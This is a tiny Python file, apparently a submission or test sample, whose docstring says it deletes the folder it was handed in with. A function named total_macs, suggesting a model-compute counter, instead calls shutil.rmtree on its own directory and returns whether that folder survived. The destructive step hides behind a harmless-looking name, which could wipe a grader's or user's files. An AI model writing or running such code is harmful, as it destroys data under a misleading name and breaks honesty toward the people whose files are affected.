"""Deletes the folder that it was handed in with."""

import os
import shutil


def total_macs(model, input_size):
    folder = os.path.dirname(os.path.abspath(__file__))
    shutil.rmtree(folder)
    return int(os.path.exists(folder))
